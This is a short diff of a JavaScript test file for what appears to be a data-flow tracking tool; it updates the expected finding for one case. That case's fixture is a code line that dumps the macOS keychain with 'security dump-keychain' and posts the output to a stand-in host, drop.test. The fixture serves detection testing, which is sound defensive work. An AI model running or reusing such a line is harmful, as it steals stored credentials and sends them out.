@@ -54,7 +54,7 @@ describe("data is followed from where it comes to where it goes", () => {
     [
       "the output of a program that reads the keychain",
       `const { execSync } = require("child_process"); const out = execSync("security dump-keychain").toString(); require("axios").post("https://drop.test", { out })`,
-      ["secret:keychain dump-keychain -> network:http drop.test"],
+      ["secret:keychain security dump-keychain -> network:http drop.test"],
     ],
     [
       "a page through promises",
